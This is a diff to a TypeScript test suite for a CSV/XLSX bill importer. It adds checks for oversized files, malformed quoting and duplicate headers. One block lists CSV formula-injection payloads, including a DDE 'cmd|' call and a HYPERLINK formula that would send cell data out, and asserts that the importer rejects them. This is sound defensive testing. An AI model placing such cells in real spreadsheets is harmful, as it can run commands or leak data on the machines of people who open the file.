@@ -28,14 +28,18 @@ function sparse(name: string, size: number, start: string): void {
 
 beforeAll(() => {
   sparse('ten-gigabytes.csv', 10 * 2 ** 30, swiftpass.write(one));
+  sparse('ten-gigabytes.xlsx', 10 * 2 ** 30, 'PK\u0003\u0004');
   sparse('sparse.csv', 2 ** 20, swiftpass.write(one));
+  sparse('sparse.xlsx', 2 ** 20, 'PK\u0003\u0004');
   mkdirSync(path.join(folder, 'folder.csv'));
   writeFileSync(path.join(folder, 'empty.csv'), '');
 });
 
 test.each([
   ['ten-gigabytes.csv', { code: 'tooLarge', found: String(2 * 2 ** 30) }],
+  ['ten-gigabytes.xlsx', { code: 'tooLarge', found: String(2 * 2 ** 30) }],
   ['sparse.csv', { code: 'notText', line: 5 }],
+  ['sparse.xlsx', { code: 'damagedWorkbook' }],
   ['folder.csv', { code: 'notAFile' }],
   ['empty.csv', { code: 'empty' }],
   ['nowhere.csv', { code: 'missing' }],
@@ -104,9 +108,35 @@ test.each<[string, string, Partial<BillLimits>, object]>([
   ['more rows than the most', head + line.repeat(20), { rows: 10 }, { code: 'tooManyRows', line: 11 }],
   ['more columns than the most', `${head}${','.repeat(20_000)}\n`, {}, { code: 'tooManyColumns', line: 2 }],
   ['no such headings', 'a,b\n1,2\n', {}, { code: 'columnMissing', line: 1 }],
+  ['two rows of headings', head + line + head + line, {}, { code: 'secondHeader', line: 3 }],
+  ['a heading that stands twice', `Amount,${head}${line}`, {}, { code: 'columnTwice', line: 1, column: 2 }],
+  ['a bill after a bill', `\ufeff${head}${line}\ufeff${head}${line}`, {}, { code: 'secondHeader', line: 3 }],
+  [
+    'a quote that takes the next line into itself',
+    `${head}SF1,12.50,Sale,,,"tea\nSF2,"99.00",Sale,,,\n`,
+    {},
+    { code: 'quote', line: 2, column: 6 },
+  ],
+  ['delimiters without an end', `${head}${','.repeat(3 * 2 ** 20)}`, {}, { code: 'lineTooLong', line: 2 }],
 ])('%s', async (_what, text, limits, refusal) => {
   const bill = await readWhole(utf8(text), { layout: portalMapping, limits });
   expect(bill.refusal).toMatchObject(refusal);
+});
+
+test.each([
+  ['=HYPERLINK("http://x"&A1)', 1, 'formula'],
+  ['+1+cmd|x!A0', 1, 'formula'],
+  ['@SUM(1+1)', 1, 'formula'],
+  ['-2+3+cmd|x', 1, 'formula'],
+  ['=1250/100', 2, 'amount'],
+  ['12.50\t=1', 2, 'amount'],
+])('a formula is never run nor taken for what it shows: %s in column %i', async (cell, column, code) => {
+  const cells = line
+    .trim()
+    .split(',')
+    .with(column - 1, `"${cell.replaceAll('"', '""')}"`);
+  const bill = await readWhole(utf8(`${head}${cells.join()}\n`), { layout: portalMapping });
+  expect(bill).toMatchObject({ rows: [], end: { problems: [{ code, line: 2, column }] } });
 });
 
 test('thousands of columns are read where they are pointed at', async () => {
